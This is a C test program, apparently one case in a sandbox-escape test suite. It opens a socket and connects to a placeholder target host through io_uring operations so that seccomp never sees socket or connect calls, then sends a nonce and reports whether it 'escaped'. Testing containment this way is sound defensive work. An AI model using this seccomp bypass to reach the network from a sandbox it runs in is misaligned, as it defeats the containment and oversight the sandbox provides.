/* SPDX-License-Identifier: MIT */
// E035: io_uring IORING_OP_SOCKET + IORING_OP_CONNECT: no socket(2)/connect(2) for seccomp to see.
#include "esc.h"
#include <linux/io_uring.h>
static struct io_uring_params p;
static int r;
static char *sq, *cq;
static struct io_uring_sqe *q;
static int go(struct io_uring_sqe *s)
{
	unsigned *t = (void *)(sq + p.sq_off.tail), i = *t & *(unsigned *)(sq + p.sq_off.ring_mask);
	q[i] = *s;
	((unsigned *)(sq + p.sq_off.array))[i] = i;
	__atomic_store_n(t, *t + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, r, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0)
		return -errno;
	unsigned *h = (void *)(cq + p.cq_off.head);
	int v = ((
	    struct io_uring_cqe *)(cq + p.cq_off.cqes))[*h & *(unsigned *)(cq + p.cq_off.ring_mask)]
		    .res;
	++*h;
	return v;
}
int main(void)
{
	r = syscall(__NR_io_uring_setup, 8, &p);
	if (r < 0) {
		if (errno == ENOSYS && !getenv("FIXTURE"))
			skip("no io_uring");
		blocked("io_uring_setup");
	}
	sq = mmap(0, p.sq_off.array + p.sq_entries * 4, 3, MAP_SHARED, r, IORING_OFF_SQ_RING);
	cq = mmap(0, p.cq_off.cqes + p.cq_entries * 16, 3, MAP_SHARED, r, IORING_OFF_CQ_RING);
	q = mmap(0, p.sq_entries * 64, 3, MAP_SHARED, r, IORING_OFF_SQES);
	struct io_uring_sqe s = { .opcode = 45, .fd = AF_INET, .off = SOCK_STREAM };
	int f = go(&s);
	if (f < 0) {
		errno = -f;
		blocked("IORING_OP_SOCKET");
	}
	struct sockaddr_in d = in4(TARGET_IP, TARGET_PORT);
	struct io_uring_sqe c = {
		.opcode = IORING_OP_CONNECT, .fd = f, .addr = (uintptr_t)&d, .off = sizeof d
	};
	alarm(5);
	int e = go(&c);
	if (e < 0) {
		errno = -e;
		blocked("IORING_OP_CONNECT");
	}
	send(f, nonce(), strlen(nonce()), MSG_NOSIGNAL);
	if (got_echo(f, 3000))
		escaped("io_uring connect: echo came back");
	errno = ETIMEDOUT;
	blocked("echo");
}
